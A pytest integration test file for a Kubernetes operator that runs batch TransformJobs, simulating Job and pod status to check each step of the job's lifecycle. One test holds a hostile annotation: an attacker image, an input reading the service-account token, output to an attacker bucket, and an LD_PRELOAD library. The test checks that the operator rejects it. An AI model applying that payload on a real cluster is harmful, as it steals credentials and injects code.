"""TransformJobs under the real kopf operator against the Kubernetes emulator.

Nothing runs Jobs or pods here, so the tests play the Job controller and the
kubelet: they create each step's pods (owned by the Job, with the batch
container's termination message the runtime would leave: a PlanReport, a
WorkerReport, a JobSummary) and patch the Job's status (``completedIndexes``,
``failedIndexes``, ``Complete`` / ``Failed`` conditions). The operator must
then take the next step, roll the status up, fail naming the shard and its
error, keep Complete/Failed for good, and lose everything with the TransformJob.
"""

from __future__ import annotations

import copy
import itertools
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml

from kubeinfer_operator.api.transform_job import TransformJob
from kubeinfer_operator.render.transform_jobs import render_job
from kubeinfer_operator.render.transform_names import (
    ANNOTATION_RESOLVED_MODEL,
    INDEX_ANNOTATION,
    Step,
)
from kubeinfer_operator.render.transform_plan import own_model, plan_transform
from kubeinfer_operator.settings import OperatorSettings
from kubeinfer_runtime.contract.batch import (
    EXIT_BAD_INPUT,
    EXIT_MODEL_FAILED,
    JobSummary,
    PlanReport,
    WorkerReport,
)
from tests.support.kube_harness import Kube, operator_on_emulator, wait_for
from tests.support.kube_schema import schema_errors

REPO = Path(__file__).resolve().parents[2]
SETTINGS = OperatorSettings(standalone=True, status_interval_s=0.3, namespaces=[],
                            runtime_image="example.test/runtime:1", s3_secret_name="s3-creds")
ENDPOINT: dict[str, Any] = yaml.safe_load((REPO / "examples" / "realtime-endpoint.yaml")
                                          .read_text())
_ids = itertools.count()


def transform_job(name: str = "score", **spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "model": {"uri": "file://models/iris.onnx"},
        "input": {"uri": "s3://data/in/", "contentType": "text/csv", "splitType": "Line"},
        "output": {"uri": "s3://data/out/", "assembleWith": "Line"},
        "resources": {"instanceCount": 2},
    }
    base.update(spec)
    return {"apiVersion": "kubeinfer.io/v1alpha1", "kind": "TransformJob",
            "metadata": {"name": name}, "spec": base}


@pytest.fixture(scope="module")
def kube(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kube]:
    with operator_on_emulator(SETTINGS, tmp_path_factory.mktemp("kube")) as (kube, _):
        yield kube


@pytest.fixture
def ns(kube: Kube) -> str:
    name = f"tj{next(_ids)}"
    kube.create_namespace(name)
    return name


def _now() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _status(kube: Kube, ns: str, name: str = "score") -> dict[str, Any]:
    return (kube.get("TransformJob", ns, name) or {}).get("status") or {}


def _condition(kube: Kube, ns: str, type_: str, name: str = "score") -> dict[str, Any]:
    return next((c for c in _status(kube, ns, name).get("conditions", [])
                 if c["type"] == type_ and c["status"] == "True"), {})


def _job(kube: Kube, ns: str, name: str) -> dict[str, Any]:
    job: dict[str, Any] = wait_for(lambda: kube.get("Job", ns, name), 10, f"Job {name}")
    return job


def _pod(kube: Kube, ns: str, job: dict[str, Any], suffix: str, *, exit_code: int = 0,
         message: str = "", index: int | None = None) -> None:
    """What the Job controller and the kubelet do for one pod: create it, run it, end it."""
    meta = job["metadata"]
    annotations = {INDEX_ANNOTATION: str(index)} if index is not None else {}
    pod = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": f"{meta['name']}-{suffix}",
                        "labels": {**job["spec"]["template"]["metadata"]["labels"],
                                   "batch.kubernetes.io/job-name": meta["name"]},
                        "annotations": annotations,
                        "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job",
                                             "name": meta["name"], "uid": meta["uid"],
                                             "controller": True, "blockOwnerDeletion": True}]},
           "spec": copy.deepcopy(job["spec"]["template"]["spec"])}
    created = kube.create(pod, ns)
    assert created.status_code == 201, created.text
    terminated = {"exitCode": exit_code, "reason": "Completed" if exit_code == 0 else "Error",
                  "message": message, "finishedAt": _now(), "startedAt": _now()}
    status = {"phase": "Succeeded" if exit_code == 0 else "Failed",
              "containerStatuses": [{"name": "batch", "ready": False, "restartCount": 0,
                                     "image": "example.test/runtime:1", "imageID": "",
                                     "state": {"terminated": terminated}}]}
    patched = kube.patch("Pod", ns, pod["metadata"]["name"], {"status": status}, sub="status")
    assert patched.status_code == 200, patched.text


def _job_status(kube: Kube, ns: str, name: str, *, complete: bool = False,
                failure: tuple[str, str] | None = None, **fields: Any) -> None:
    conditions = []
    if complete:
        conditions = [
            {"type": "SuccessCriteriaMet", "status": "True", "lastTransitionTime": _now()},
            {"type": "Complete", "status": "True", "lastTransitionTime": _now()}]
    if failure is not None:
        conditions = [{"type": "FailureTarget", "status": "True", "reason": failure[0],
                       "message": failure[1], "lastTransitionTime": _now()},
                      {"type": "Failed", "status": "True", "reason": failure[0],
                       "message": failure[1], "lastTransitionTime": _now()}]
    status = {"startTime": _now(), **fields, "conditions": conditions}
    if complete:
        status["completionTime"] = _now()
    response = kube.patch("Job", ns, name, {"status": status}, sub="status")
    assert response.status_code == 200, response.text


def _planned(kube: Kube, ns: str, shards: int = 5, name: str = "score") -> dict[str, Any]:
    """Run the planner (as the cluster would) and return the workers' Job."""
    planner = _job(kube, ns, f"{name}-plan")
    _pod(kube, ns, planner, "x1z2q",
         message=PlanReport(shards=shards, objects=3, bytes=123_456).model_dump_json())
    _job_status(kube, ns, f"{name}-plan", complete=True, succeeded=1)
    return _job(kube, ns, f"{name}-work")


def _report(**counts: Any) -> str:
    return WorkerReport(shards_assigned=1, shards_started=1, shards_done=1,
                        **counts).model_dump_json()


def test_planner_then_workers_then_finalizer_then_complete(kube: Kube, ns: str) -> None:
    created = kube.create(transform_job(), ns)
    assert created.status_code == 201, created.text
    uid = created.json()["metadata"]["uid"]
    planner = _job(kube, ns, "score-plan")

    # Exactly what the renderer makes, strict-valid, owned by the TransformJob.
    job = TransformJob.model_validate({**transform_job(), "metadata": {"name": "score",
                                                                       "namespace": ns}})
    plan = plan_transform(job, own_model(job.spec))
    expected = render_job(plan, Step.PLAN, namespace=ns, uid=uid, settings=SETTINGS)
    assert planner["spec"]["template"] == expected["spec"]["template"]
    assert planner["metadata"]["ownerReferences"] == [{
        "apiVersion": "kubeinfer.io/v1alpha1", "kind": "TransformJob", "name": "score",
        "uid": uid, "controller": True, "blockOwnerDeletion": True}]
    kubernetes_validate.validate(expected, "1.33.0", strict=True)
    wait_for(lambda: _status(kube, ns).get("phase") == "Planning", 10, "Planning")
    assert _condition(kube, ns, "Running")["reason"] == "Planning"
    assert kube.get("Job", ns, "score-work") is None  # nothing before the plan is known

    workers = _planned(kube, ns, shards=5)
    assert workers["spec"]["completionMode"] == "Indexed"
    assert (workers["spec"]["completions"], workers["spec"]["parallelism"]) == (5, 2)
    assert workers["spec"]["maxFailedIndexes"] == 0
    assert schema_errors(workers) == []
    rules = workers["spec"]["podFailurePolicy"]["rules"]
    assert [r["action"] for r in rules] == ["FailIndex", "FailJob", "Ignore"]
    status = wait_for(lambda: (s := _status(kube, ns)).get("phase") == "Running" and s, 10,
                      "Running")
    assert (status["shards"], status["objects"], status["inputBytes"]) == (5, 3, 123_456)
    assert status["progress"] == "0/5"

    # Two shards done: progress and records roll up from the Job and the pods' reports.
    for index in (0, 1):
        _pod(kube, ns, workers, f"{index}-abcde", index=index,
             message=_report(records=100, bytes_in=1000, bytes_out=400))
    _job_status(kube, ns, "score-work", active=2, succeeded=2, completedIndexes="0-1")
    status = wait_for(lambda: (s := _status(kube, ns)).get("progress") == "2/5" and s, 10,
                      "progress 2/5")
    assert (status["records"], status["bytesIn"], status["bytesOut"]) == (200, 2000, 800)
    assert kube.get("Job", ns, "score-finalize") is None

    for index in (2, 3, 4):
        _pod(kube, ns, workers, f"{index}-abcde", index=index, message=_report(records=100))
    _job_status(kube, ns, "score-work", complete=True, succeeded=5, completedIndexes="0-4")
    finalizer = _job(kube, ns, "score-finalize")
    assert schema_errors(finalizer) == []
    wait_for(lambda: _status(kube, ns).get("phase") == "Finalizing", 10, "Finalizing")
    assert _status(kube, ns)["progress"] == "5/5"

    summary = JobSummary(objects=3, shards=5, records=500, failed_records=0, bytes_in=5000,
                         bytes_out=2000)
    _pod(kube, ns, finalizer, "f00d1", message=summary.model_dump_json())
    _job_status(kube, ns, "score-finalize", complete=True, succeeded=1)
    complete = wait_for(lambda: _condition(kube, ns, "Complete"), 10, "Complete")
    assert complete["reason"] == "Completed"
    assert complete["message"] == "500 record(s) from 3 object(s) in 5 shard(s)"
    status = _status(kube, ns)
    assert status["phase"] == "Complete" and status["records"] == 500
    assert status["completionTime"] and status["startTime"]
    assert status["observedGeneration"] == 1
    running = next(c for c in status["conditions"] if c["type"] == "Running")
    assert (running["status"], running["reason"]) == ("False", "Complete")

    # Monotonic: whatever the Jobs report later, Complete stays and nothing is re-created.
    before = kube.get("TransformJob", ns, "score")
    assert kube.delete("Job", ns, "score-work").status_code == 200
    _job_status(kube, ns, "score-finalize", failure=("BackoffLimitExceeded", "later"))
    time.sleep(1.0)
    after = kube.get("TransformJob", ns, "score")
    assert after is not None and before is not None
    assert after["status"] == before["status"]
    assert kube.get("Job", ns, "score-work") is None


def test_a_bad_record_fails_the_job_naming_the_shard_and_record(kube: Kube, ns: str) -> None:
    assert kube.create(transform_job(), ns).status_code == 201
    workers = _planned(kube, ns, shards=4)
    _pod(kube, ns, workers, "0-aaaaa", index=0, message=_report(records=10))
    error = ("record 17 of in/b.csv (byte offset 1234) is 7340032 bytes, larger than "
             "maxPayloadInMB 6")
    _pod(kube, ns, workers, "3-bbbbb", index=3, exit_code=EXIT_BAD_INPUT,
         message=WorkerReport(shards_assigned=1, shards_started=1, error=error)
         .model_dump_json())
    _job_status(kube, ns, "score-work", succeeded=1, failed=1, completedIndexes="0",
                failedIndexes="3", failure=("FailedIndexes", "Job has failed indexes"))
    failed = wait_for(lambda: _condition(kube, ns, "Failed"), 10, "Failed")
    assert failed["reason"] == "BadInput"
    assert failed["message"].startswith(f"Shard 3 failed: {error} (pod {ns}/score-work-3-bbbbb")
    status = _status(kube, ns)
    assert status["phase"] == "Failed" and status["shardsFailed"] == 1
    assert status["progress"] == "1/4" and status["records"] == 10
    # No finalizer after a failure.
    assert kube.get("Job", ns, "score-finalize") is None


def test_a_model_that_cannot_load_fails_the_job(kube: Kube, ns: str) -> None:
    assert kube.create(transform_job(), ns).status_code == 201
    workers = _planned(kube, ns, shards=2)
    _pod(kube, ns, workers, "1-ccccc", index=1, exit_code=EXIT_MODEL_FAILED,
         message="Traceback ...\nModelLoadError: file://models/iris.onnx: not an ONNX model")
    _job_status(kube, ns, "score-work", failed=1,
                failure=("PodFailurePolicy", "Container batch exited with 43"))
    failed = wait_for(lambda: _condition(kube, ns, "Failed"), 10, "Failed")
    assert failed["reason"] == "ModelFailed"
    assert "not an ONNX model" in failed["message"]


def test_deleting_the_transform_job_deletes_its_jobs_and_pods(kube: Kube, ns: str) -> None:
    assert kube.create(transform_job(), ns).status_code == 201
    workers = _planned(kube, ns, shards=2)
    _pod(kube, ns, workers, "0-ddddd", index=0, message=_report(records=1))
    assert kube.names("Job", ns) == {"score-plan", "score-work"}
    assert len(kube.names("Pod", ns)) == 2
    assert kube.delete("TransformJob", ns, "score").status_code == 200
    wait_for(lambda: kube.get("TransformJob", ns, "score") is None, 10, "TransformJob gone")
    wait_for(lambda: not kube.names("Job", ns) and not kube.names("Pod", ns), 10,
             "Jobs and pods garbage-collected")


def test_an_invalid_spec_fails_at_once_and_creates_nothing(kube: Kube, ns: str) -> None:
    doc = transform_job(input={"uri": "file:///data/in/"})
    assert kube.create(doc, ns).status_code == 201
    failed = wait_for(lambda: _condition(kube, ns, "Failed"), 10, "Failed")
    assert failed["reason"] == "InvalidSpec"
    assert "spec.input.uri: 'file:///data/in/' is a path inside one pod" in failed["message"]
    assert "use s3://bucket/prefix" in failed["message"]
    assert kube.names("Job", ns) == set()


def test_the_crd_refuses_what_sagemaker_refuses(kube: Kube, ns: str) -> None:
    doc = transform_job(maxPayloadInMB=101)
    response = kube.create(doc, ns)
    assert response.status_code == 422
    assert "maxPayloadInMB" in response.text


def test_endpoint_ref_waits_for_the_endpoint_then_pins_its_model(kube: Kube, ns: str) -> None:
    doc = transform_job(endpointRef={"name": "iris", "variant": "canary"})
    del doc["spec"]["model"]
    assert kube.create(doc, ns).status_code == 201
    waiting = wait_for(lambda: (c := next((c for c in _status(kube, ns).get("conditions", [])
                                           if c["type"] == "Running"), None)) and c, 10,
                       "Running=False")
    assert (waiting["status"], waiting["reason"]) == ("False", "EndpointNotFound")
    assert f"Endpoint {ns}/iris does not exist" in waiting["message"]
    assert _status(kube, ns)["phase"] == "Pending"

    assert kube.create(copy.deepcopy(ENDPOINT), ns).status_code == 201
    planner = _job(kube, ns, "score-plan")
    env = {e["name"]: e.get("value") for e in
           planner["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["KUBEINFER_MODEL_URI"] == "file://models/iris-v2.onnx"
    obj = kube.get("TransformJob", ns, "score")
    assert obj is not None
    assert "iris-v2.onnx" in obj["metadata"]["annotations"][ANNOTATION_RESOLVED_MODEL]
    # The status is written after the planner Job is created (same reconcile): wait for it.
    wait_for(lambda: _status(kube, ns).get("model") == ("Endpoint iris variant canary: model "
                                                        "file://models/iris-v2.onnx"), 10,
             "the pinned model in status")

    # The Endpoint changes; the running job keeps the model it started with.
    variants = copy.deepcopy(ENDPOINT["spec"]["variants"])
    variants[1]["model"]["uri"] = "file://models/iris.onnx"
    assert kube.patch("Endpoint", ns, "iris", {"spec": {"variants": variants}}).status_code == 200
    workers = _planned(kube, ns, shards=1)
    env = {e["name"]: e.get("value") for e in
           workers["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["KUBEINFER_MODEL_URI"] == "file://models/iris-v2.onnx"


#: A pin written by hand (the audit's): a file:// input on the service-account token, an
#: output in another bucket, a preloaded library.
HOSTILE_PIN = json.dumps({
    "source": "Endpoint iris variant canary: model file://models/iris-v2.onnx",
    "containers": [{"name": "img", "image": "attacker.example/img:1"}],
    "env": [{"name": "KUBEINFER_INPUT_URI",
             "value": "file:///var/run/secrets/kubernetes.io/serviceaccount/"},
            {"name": "KUBEINFER_OUTPUT_URI", "value": "s3://attacker-bucket/loot/"},
            {"name": "LD_PRELOAD", "value": "/tmp/x.so"}]})


def test_a_hand_written_model_pin_never_runs(kube: Kube, ns: str) -> None:
    def planner_env(name: str) -> dict[str, Any]:
        pod = _job(kube, ns, f"{name}-plan")["spec"]["template"]["spec"]
        assert "initContainers" not in pod
        return {e["name"]: e.get("value") for e in pod["containers"][0]["env"]}

    # The spec's own model: the annotation is not read at all.
    own = transform_job("own")
    own["metadata"]["annotations"] = {ANNOTATION_RESOLVED_MODEL: HOSTILE_PIN}
    assert kube.create(own, ns).status_code == 201
    env = planner_env("own")
    assert (env["KUBEINFER_MODEL_URI"], env["KUBEINFER_INPUT_URI"],
            env["KUBEINFER_OUTPUT_URI"]) == ("file://models/iris.onnx", "s3://data/in/",
                                             "s3://data/out/")
    assert "LD_PRELOAD" not in env
    # An endpointRef: the refused pin is replaced by the Endpoint's model, pinned again.
    assert kube.create(copy.deepcopy(ENDPOINT), ns).status_code == 201
    ref = transform_job("ref", endpointRef={"name": "iris", "variant": "canary"})
    del ref["spec"]["model"]
    ref["metadata"]["annotations"] = {ANNOTATION_RESOLVED_MODEL: HOSTILE_PIN}
    assert kube.create(ref, ns).status_code == 201
    env = planner_env("ref")
    assert (env["KUBEINFER_MODEL_URI"], env["KUBEINFER_INPUT_URI"]) == (
        "file://models/iris-v2.onnx", "s3://data/in/")
    assert "LD_PRELOAD" not in env
    obj = kube.get("TransformJob", ns, "ref")
    assert obj is not None
    assert "attacker" not in obj["metadata"]["annotations"][ANNOTATION_RESOLVED_MODEL]


def test_an_image_model_runs_as_a_native_sidecar_of_each_worker(kube: Kube, ns: str) -> None:
    doc = transform_job(containers=[{"name": "xgb", "image": "example.test/xgb:1", "port": 8080,
                                     "env": [{"name": "MODEL_SERVER_WORKERS", "value": "2"}]}],
                        environment={"MODEL_FLAVOUR": "fast"}, maxConcurrentTransforms=4)
    del doc["spec"]["model"]
    assert kube.create(doc, ns).status_code == 201
    planner = _job(kube, ns, "score-plan")
    assert "initContainers" not in planner["spec"]["template"]["spec"]
    workers = _planned(kube, ns, shards=3)
    pod = workers["spec"]["template"]["spec"]
    (sidecar,) = pod["initContainers"]
    assert sidecar["image"] == "example.test/xgb:1" and sidecar["restartPolicy"] == "Always"
    env = {e["name"]: e["value"] for e in sidecar["env"]}
    assert env == {"MODEL_SERVER_WORKERS": "2", "MODEL_FLAVOUR": "fast",
                   "SAGEMAKER_BATCH": "true", "SAGEMAKER_MAX_PAYLOAD_IN_MB": "6",
                   "SAGEMAKER_BATCH_STRATEGY": "MULTI_RECORD",
                   "SAGEMAKER_MAX_CONCURRENT_TRANSFORMS": "4", "SAGEMAKER_BIND_TO_PORT": "8080"}
    batch_env = {e["name"]: e.get("value") for e in pod["containers"][0]["env"]}
    assert batch_env["KUBEINFER_MODEL_URL"] == "http://127.0.0.1:8080"
    assert "MODEL_FLAVOUR" not in batch_env
    assert schema_errors(workers) == []


def test_ttl_deletes_the_jobs_and_keeps_the_transform_job(kube: Kube, ns: str) -> None:
    assert kube.create(transform_job(ttlSecondsAfterFinished=0), ns).status_code == 201
    planner = _job(kube, ns, "score-plan")
    _pod(kube, ns, planner, "p1", message=PlanReport(shards=0, objects=0, bytes=0)
         .model_dump_json())
    _job_status(kube, ns, "score-plan", complete=True, succeeded=1)
    # No input: no workers, straight to the finalizer.
    finalizer = _job(kube, ns, "score-finalize")
    assert kube.get("Job", ns, "score-work") is None
    _pod(kube, ns, finalizer, "f1", message=JobSummary().model_dump_json())
    _job_status(kube, ns, "score-finalize", complete=True, succeeded=1)
    wait_for(lambda: _condition(kube, ns, "Complete"), 10, "Complete")
    wait_for(lambda: not kube.names("Job", ns) and not kube.names("Pod", ns), 10,
             "Jobs cleaned up after the TTL")
    assert _condition(kube, ns, "Complete")
    assert _status(kube, ns)["progress"] == "0/0"


def test_a_spec_change_that_gets_through_fails_the_job(kube: Kube, ns: str) -> None:
    # The CRD's CEL rule (self == oldSelf) refuses this on a real API server; the
    # emulator does not evaluate CEL, so the operator's own guard is what is tested.
    assert kube.create(transform_job(), ns).status_code == 201
    _job(kube, ns, "score-plan")
    patched = kube.patch("TransformJob", ns, "score", {"spec": {"maxConcurrentTransforms": 8}})
    assert patched.status_code == 200
    failed = wait_for(lambda: _condition(kube, ns, "Failed"), 10, "Failed")
    assert failed["reason"] == "SpecChanged"
    assert "delete it and create it again" in failed["message"]
    wait_for(lambda: kube.get("Job", ns, "score-plan") is None, 10, "planner stopped")
